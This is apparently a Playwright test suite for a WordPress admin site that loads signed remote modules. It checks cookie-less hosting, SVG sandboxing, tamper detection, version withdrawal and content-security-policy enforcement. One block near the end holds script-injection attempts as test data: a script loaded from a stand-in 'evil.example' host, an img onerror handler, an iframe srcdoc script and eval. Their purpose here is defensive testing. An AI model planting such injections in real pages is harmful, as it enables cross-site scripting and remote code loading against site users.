import { readFileSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import type { Page, Request } from 'playwright-core';
import { eventually } from '../eventually';
import { getMarks, mark, marked } from '../marks';
import { notices, settled, shownVersion, tab } from '../pages/frame';
import { getFiles, publishedFolder, tamper } from '../tamper';
import { siteUnderTest } from '../visits';

const site = siteUnderTest({ pollSeconds: 1, isSigned: true, hasRemotesHost: true });
const allowErrors = true;

const shows = (page: Page, version: string) =>
  eventually(async () => expect(await shownVersion(page, 'dashboard')).toBe(version));

/** Returns the address of a file of the store on a host. */
const getAddress = (file: string, host: string) => {
  const { port } = new URL(site.stack.base);
  return `http://${host}:${port}/wp-content/site-admin/${path.relative(site.stack.store, file)}`;
};

test('with keys, every signed remote is displayed from a host without cookies, and a promotion reaches an open page', async () => {
  const requests: Request[] = [];
  const { page, pageErrors } = await site.visit('/dashboard', {
    arrange: async (opened) => void opened.on('requestfinished', (request) => void requests.push(request)),
  });
  await settled(page);
  expect(await shownVersion(page, 'dashboard')).toBe('1.0.0');
  for (const [name, remote] of [
    ['My Plan', 'licensing'],
    ['Recommendations', 'recommendations'],
  ] as const) {
    await tab(page, name).click();
    await settled(page);
    expect(await shownVersion(page, remote)).toBe('1.0.0');
  }
  // Its banner is on the dashboard, too.
  site.stack.publish('recommendations', marked('1.1.0'), '--promote');
  await eventually(async () => expect(await shownVersion(page, 'recommendations')).toBe('1.1.0'));
  const files = requests.filter((request) => new URL(request.url()).pathname.includes('/remotes/'));
  expect(new Set(files.map((request) => new URL(request.url()).hostname))).toEqual(new Set(['localhost']));
  const headers = await Promise.all(files.map((request) => request.allHeaders()));
  expect(headers.filter(({ cookie }) => cookie !== undefined)).toEqual([]);
  expect(pageErrors.errors).toEqual([]);
});

test('a file of a remote that is merely published runs nothing when it is opened, reads no session, and is not sent once it is changed', async () => {
  const addScript = (text: string) => text.replace('</svg>', `<script>${mark('svg')}</script></svg>`);
  const isImage = ({ name }: { readonly name: string }) => name.endsWith('.svg');
  site.stack.publish('dashboard', { version: '2.0.0', edit: ({ kind }, text) => (kind === 'asset' ? addScript(text) : text) });
  const [image = ''] = getFiles(site.stack.store, 'dashboard', '2.0.0', isImage);
  writeFileSync(
    path.join(publishedFolder(site.stack.store, 'dashboard', '2.0.0'), 'page.html'),
    `<script>${mark('html')}</script>`,
  );
  const { page } = await site.visit('/dashboard', { allowErrors });
  const open = async (file: string, host: string) => (await page.goto(getAddress(file, host)))?.status();
  for (const host of ['127.0.0.1', 'localhost']) {
    expect(await open(image, host)).toBe(200);
    expect(readFileSync(image, 'utf8')).toContain(mark('svg'));
    expect(await page.evaluate(() => self.origin)).toBe('null');
    expect(await page.evaluate(() => document.cookie).catch(String)).toContain('SecurityError');
    expect(await getMarks(page)).toEqual([]);
    expect(await open(path.join(path.dirname(image), 'page.html'), host)).toBe(404);
  }
  expect((await page.goto(new URL('/wp-admin/', getAddress(image, 'localhost')).href))?.status()).toBe(421);
  tamper(site.stack.store, 'dashboard', '2.0.0', isImage, (text) => `${text}<!-- changed -->`);
  expect((await page.request.get(getAddress(image, 'localhost'))).status()).toBe(502);
});

test('a link to a version ends with its withdrawal, also if an older registry is put back; a disabled remote has none', async () => {
  site.stack.publish('dashboard', marked('1.4.0'));
  const registry = path.join(site.stack.store, 'registry.json');
  const older = readFileSync(registry, 'utf8');
  const { page } = await site.visit('/dashboard', { query: 'remote.dashboard=1.4.0' });
  await settled(page);
  expect(await getMarks(page)).not.toContain('1.4.0');
  await page.getByRole('button', { name: 'Show the requested version of dashboard' }).click();
  await shows(page, '1.4.0');

  site.stack.remotes('withdraw', 'dashboard', '1.4.0', '--reason', 'It leaks.');
  await shows(page, '1.0.0');
  const newer = readFileSync(registry, 'utf8');
  writeFileSync(registry, older);
  await page.goto('/wp-admin/admin.php?page=jetpack&remote.dashboard=1.4.0#/dashboard');
  await settled(page);
  await notices(page).getByText('that version was withdrawn').waitFor();
  expect(await getMarks(page)).not.toContain('1.4.0');
  writeFileSync(registry, newer);

  site.stack.remotes('disable', 'dashboard', '--reason', 'It leaks too.');
  await page.goto('/wp-admin/admin.php?page=jetpack&remote.dashboard=1.0.0#/dashboard');
  await notices(page).getByText('that part is disabled').waitFor();
  expect(await shownVersion(page, 'dashboard')).toBeUndefined();
  site.stack.remotes('enable', 'dashboard');
});

/** Code of a remote that tries to run what no manifest lists, and records each refusal. */
const injections = `
for (const attempt of [
  () => document.head.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/a.js' })),
  () => document.head.append(Object.assign(document.createElement('script'), { src: '/wp-content/site-admin/host/tracking.js' })),
  () => document.head.append(Object.assign(document.createElement('script'), { text: ${JSON.stringify(mark('inline'))} })),
  () => document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="codeThatRan = [1]">'),
  () => document.body.append(Object.assign(document.createElement('iframe'), { srcdoc: '<script>parent.codeThatRan = [1]</script>' })),
  () => eval(${JSON.stringify(mark('eval'))}),
  () => new DOMParser().parseFromString('<b>read only</b>', 'text/html').body.textContent,
])
  try { (globalThis.attempts ||= []).push(String(attempt())); } catch (error) { (globalThis.attempts ||= []).push(error.name); }
`;

test('a remote can add no script to the page that no manifest lists, and run no text; one that fails by it falls back', async () => {
  const asEntry = (code: string) => (file: { readonly role: string }, text: string) =>
    file.role === 'entry' ? code + text : text;
  site.stack.publish('dashboard', { version: '1.2.0', edit: asEntry(injections) }, '--promote');
  const reached: string[] = [];
  const { page } = await site.visit('/dashboard', {
    allowErrors,
    arrange: async (opened) => {
      await opened.route('https://evil.example/**', (route) => {
        reached.push(route.request().url());
        return route.abort();
      });
    },
  });
  await settled(page);
  expect(await shownVersion(page, 'dashboard')).toBe('1.2.0');
  const attempts = await page.evaluate(() => Reflect.get(window, 'attempts') as unknown);
  expect(attempts).toEqual([...Array<string>(5).fill('TypeError'), 'EvalError', 'read only']);
  // The browser reports what its policy refused.
  await eventually(async () => {
    const metrics = await page.request.get(`${site.stack.base}/metrics`);
    expect(await metrics.text()).toMatch(/^site_admin_csp_violations_total [1-9]/m);
  }, 8000);

  site.stack.publish(
    'dashboard',
    { version: '1.3.0', edit: asEntry(`document.createElement('script').src = '/x.js';`) },
    '--promote',
  );
  await page.reload();
  await shows(page, '1.2.0');
  expect((await getMarks(page)).filter((name) => name !== '1.1.0')).toEqual([]);
  expect(reached).toEqual([]);
});
